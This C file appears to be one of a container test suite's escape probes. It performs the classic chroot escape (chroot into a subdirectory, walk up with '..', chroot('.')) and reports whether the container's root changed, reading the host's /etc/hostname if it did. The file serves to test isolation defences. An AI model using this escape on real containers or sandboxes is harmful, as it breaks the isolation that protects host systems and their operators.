/* The classic chroot escape: chroot into a subdirectory while keeping the
 * cwd outside it, walk up with "..", chroot("."). It escapes a launcher
 * that only chroot()s; pivot_root into a new mount namespace (with the old
 * root detached) leaves nothing above the root to walk to.
 * ESCAPED: "/" is afterwards another inode than the container's root (and
 * the rootfs marker /.hutch-rootfs-marker is gone, printed).
 * BLOCKED: chroot refused, or "/" is still the container's root. */
#include "escape.h"

#include <limits.h>

int main(void)
{
	esc_name = "chroot_escape";
	struct stat root0, root1;
	if (stat("/", &root0) < 0) {
		note("stat /: %s", ename(errno));
		verdict(false);
	}
	bool marker0 = access(ROOTFS_MARKER, F_OK) == 0;
	note("marker %s before;", marker0 ? "present" : "ABSENT");

	char dir[64] = "";
	static const char *const bases[] = { "/tmp", "/var/tmp", "/run", "/" };
	for (size_t i = 0; i < 4 && !dir[0]; i++) {
		snprintf(dir, sizeof(dir), "%s/.hutch-escape-chroot-%d", bases[i], (int)getpid());
		if (mkdir(dir, 0700) < 0)
			dir[0] = '\0';
	}
	if (!dir[0]) {
		note("no writable directory (%s): chroot into /proc instead;", ename(errno));
		snprintf(dir, sizeof(dir), "/proc/self");
	}
	if (chdir("/") < 0 || chroot(dir) < 0) {
		note("chroot(%s)=%s", dir, ename(errno));
		if (strncmp(dir, "/proc", 5))
			rmdir(dir);
		verdict(false);
	}
	for (int i = 0; i < 256; i++)
		if (chdir("..") < 0)
			break;
	int r = chroot(".");
	note("chroot(.)=%s;", r == 0 ? "ok" : ename(errno));
	if (chdir("/") < 0 || stat("/", &root1) < 0) {
		note("stat / after: %s", ename(errno));
		verdict(false);
	}
	bool moved = !same_file(&root0, &root1);
	bool marker1 = access(ROOTFS_MARKER, F_OK) == 0;
	char host[PATH_MAX] = "";
	if (moved) { /* where are we? a hint for the report */
		char hn[128];
		if (slurp("/etc/hostname", hn, sizeof(hn)) > 0)
			snprintf(host, sizeof(host), "now sees /etc/hostname=%.*s;",
				 (int)strcspn(hn, "\n"), hn);
	}
	note("root %s, marker %s after; %s", moved ? "CHANGED" : "unchanged",
	     marker1 ? "present" : "absent", host);
	/* Clean up in whichever root we are now. */
	if (strncmp(dir, "/proc", 5) && !moved)
		rmdir(dir);
	verdict(moved);
}
